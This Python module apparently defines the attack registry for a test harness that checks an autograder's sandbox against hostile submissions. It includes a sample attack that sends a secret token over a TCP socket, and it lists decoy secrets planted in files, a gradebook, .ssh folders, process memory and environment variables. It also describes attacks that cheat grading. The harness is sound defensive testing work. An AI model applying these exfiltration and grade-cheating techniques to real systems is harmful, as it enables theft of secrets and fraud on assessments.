"""What an attack is.

An attack is a function in `families/`, and its source is what a hostile submission holds: it stands on its own (imports
inside it) and takes one argument, the `targets`, plain values that say where the decoys are. It bounds itself: at most
200 processes, 2 GB and 10 s, whatever stops it or does not.

    @attack("network", "sends the secret to a TCP server")
    def tcp_send(targets):
        import socket
        with socket.create_connection(("127.0.0.1", targets["tcp_port"]), timeout=2) as out:
            out.sendall(targets["token"].encode())

How it is seen whether an attack succeeded is `succeeded(outcome)`; by default, whether the function returned the secret
that only the decoys hold. What it raises counts as what it returned: an exception's text is a way out too.

Options, all of which may be left out:

`limits={"memory_mb": 128}`: fields of the sandbox's `Limits` for this attack.
`calls=10`: the function is called so often by one grader; `seconds` is the time for all, `value` the last one's.
`friend=function`: after the attack, `function` is the next submission of the same grader, called with the same targets,
and its outcome is what counts: what one submission leaves behind for another.
`shared=True`: the control calls the function, and then the `friend`, in the naive grader's own process, as graders do
that import a student's module: for what breaks that process or stays in it.
`item="affine_forward"`: the function stands in for that function of the assignment, `run(targets, x, w, b)`, and the
item is graded; `points` is what it got and `value` the whole report as JSON. This is so for all attacks that are judged
by `cheat`. Their default control is a naive grader: it calls the function in its own process and compares with
np.allclose.
`items=("affine_forward",)`: what is graded of a hostile submission (kind "submission"): all if left out.
`depends="on what"`: of the kernel, which not every machine has, or allows to everybody: there the control fails, and
the attack shows nothing.
`beside=True`: an honest submission is graded at the same time and must get its exact score, not only one after it.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

#: Where each decoy is, as the attack's function gets it; `decoys.py` makes them. The secret is in
#: files: `secret_file`, `gradebook` (SQLite, table `grades`), one in each of the folders `solutions` (a module),
#: `other` (another submission) and `home` (in its .ssh);
#: the process `pid`, which leads a group: at `memory_address`, in its command line, environment, working folder and an
#: open file;
#: the process `grader`: in its environment, and it has `secret_file` and that file's folder open and inheritable;
#: System V shared memory: `shm_id`.
#: `mark` is how the secret begins. The folder `outside`, with `notes.txt` and a folder `site-packages`, is there to be
#: written to. Servers listen on `tcp_port`, `udp_port`, `unix_path` and `abstract` (without its leading NUL); `token`
#: is what to send them, and a name that nobody else uses.
Targets = dict[str, Any]

#: What every hostile source may call besides what it imports itself; it is put before the attack's own source.
PRELUDE = (Path(__file__).parent / "prelude.py").read_text(encoding="utf-8")


@dataclass(frozen=True)
class Outcome:
    """What one run of an attack did.

    `value`: what the function returned, if it came back as plain data. `seconds`: how long the caller waited for it.
    `harm`: what the decoys found done to them and to the world, as the words that `decoys.py` documents. `points`: what
    the grader gave for the item (None where nothing was graded). `fault`: an exception that reached the caller and is
    not the protocol's own. `megabytes`: by how much the caller's memory grew.
    """

    value: Any = None
    seconds: float = 0.0
    harm: frozenset[str] = frozenset()
    points: float | None = None
    fault: str = ""
    megabytes: float = 0.0
    secret: str = ""


def loot(outcome: Outcome) -> bool:
    """The secret was brought out."""
    return bool(outcome.secret) and outcome.secret in str(outcome.value)


def harm(word: str) -> Callable[[Outcome], bool]:
    """The decoys found `word` done."""
    return lambda outcome: word in outcome.harm


def amount(least: float) -> Callable[[Outcome], bool]:
    """The function got `least` of what it wanted (processes, megabytes, ...): it returns the number that it got."""
    return lambda outcome: type(outcome.value) in (int, float) and outcome.value >= least


def hang(seconds: float) -> Callable[[Outcome], bool]:
    """The caller waited for longer than `seconds`."""
    return lambda outcome: outcome.seconds > seconds


def cheat(outcome: Outcome) -> bool:
    """A wrong function got points."""
    return bool(outcome.points)


def broke_the_caller(outcome: Outcome) -> bool:
    """The grader fell over something."""
    return bool(outcome.fault)


@dataclass(frozen=True)
class Attack:
    """One attack. `control`, where given, replaces the default control (the function called in an unprotected process):
    it plays a naive grader in a throw-away process and returns the outcome as a dict of `Outcome`'s fields."""

    name: str
    family: str
    what: str
    run: Callable[..., Any]
    succeeded: Callable[[Outcome], bool] = loot
    control: Callable[[Targets], dict[str, Any]] | None = None
    kind: str = "code"  # or "submission": `run(folder, targets)` writes a hostile submission instead
    options: dict[str, Any] = field(default_factory=dict)


ATTACKS: list[Attack] = []


def attack(
    family: str,
    what: str,
    succeeded: Callable[[Outcome], bool] = loot,
    *,
    control: Callable[[Targets], dict[str, Any]] | None = None,
    kind: str = "code",
    **options: Any,
) -> Callable[[Callable[..., Any]], Callable[..., Any]]:
    """Register the decorated function as an attack."""

    def register(run: Callable[..., Any]) -> Callable[..., Any]:
        ATTACKS.append(Attack(run.__name__, family, what, run, succeeded, control, kind, options))
        return run

    return register
